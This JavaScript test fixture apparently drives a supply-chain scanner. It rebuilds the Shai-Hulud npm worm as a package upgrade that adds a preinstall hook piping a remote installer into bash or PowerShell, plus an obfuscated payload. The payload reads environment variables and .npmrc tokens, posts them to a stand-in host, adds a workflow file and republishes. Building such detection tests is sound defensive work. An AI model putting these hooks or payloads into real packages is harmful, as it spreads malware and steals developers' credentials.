import { obfuscated } from '../obfuscated.js'
import { durations } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

const line =
  "execSync(process.platform === 'win32' ? windows : 'curl -fsSL https://bun.example/install | bash', { stdio: 'ignore' })"

const setup = `#!/usr/bin/env node
const { execSync, spawn } = require('child_process')
const fs = require('fs')
const os = require('os')
const path = require('path')

const windows = 'powershell -c "irm https://bun.example/install.ps1|iex"'

function findBun() {
  const name = process.platform === 'win32' ? 'bun.exe' : 'bun'
  const local = path.join(os.homedir(), '.bun', 'bin', name)
  return fs.existsSync(local) ? local : undefined
}

function installBun() {
  ${line}
  return findBun()
}

const bun = findBun() ?? installBun()
const script = path.join(__dirname, 'bun_environment.js')
if (bun && fs.existsSync(script)) spawn(bun, [script], { stdio: 'ignore', detached: true }).unref()
`

/** Ten megabytes in the incident; here as much as the words of the attack take. */
const environment = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$child=require(«child_process»);
async function $main(){
const $found={'environment':process[«env»],'npmrc':$fs[«readFileSync»]($path[«join»]($os[«homedir»](),«.npmrc»),«utf8»)};
await fetch(«https://api.forge.example/user/repos»,{'method':«POST»,'body':JSON[«stringify»]($found)[«slice»](0x0,0x0)});
$fs[«writeFileSync»](«.github/workflows/discussion.yaml»,«on: discussion»);
$child[«execSync»](«npm publish --access public»,{'stdio':«ignore»});
}
$main()[«catch»](()=>{});
`,
  600,
)

const manifest = { main: 'index.js' }
const command = 'node setup_bun.js'

export const replay = replayUpgrade({
  description:
    'The second Shai-Hulud worm: hundreds of packages ran a script before installation that fetched another runtime with a shell and ' +
    'had that run ten obfuscated megabytes, out of sight of whoever watches Node.',
  date: '2025-11-24',
  name: 'worm-carrier',
  from: ['1.0.0', { manifest, files: { 'index.js': durations } }],
  to: [
    '1.0.1',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { 'index.js': durations, 'setup_bun.js': setup, 'bun_environment.js': environment },
    },
  ],
  findings: [
    [
      'install-script-dangerous',
      'critical',
      {
        file: 'setup_bun.js',
        line,
      },
    ],
    ['remote-code-run', 'critical', { file: 'setup_bun.js', line }],
    ['secrets-exfiltrated', 'critical', { file: 'bun_environment.js', line: environment }],
    ['secrets-harvested', 'critical', { file: 'bun_environment.js', line: environment }],
    ['self-propagation', 'critical', { file: 'bun_environment.js', line: environment }],
    ['combined-risk', 'critical'],
    ['capability-added', 'high', { file: 'bun_environment.js', line: environment }],
    ['code-obfuscated', 'high', { file: 'bun_environment.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['network-host-added', 'medium', { file: 'bun_environment.js', line: environment }],
  ],
})
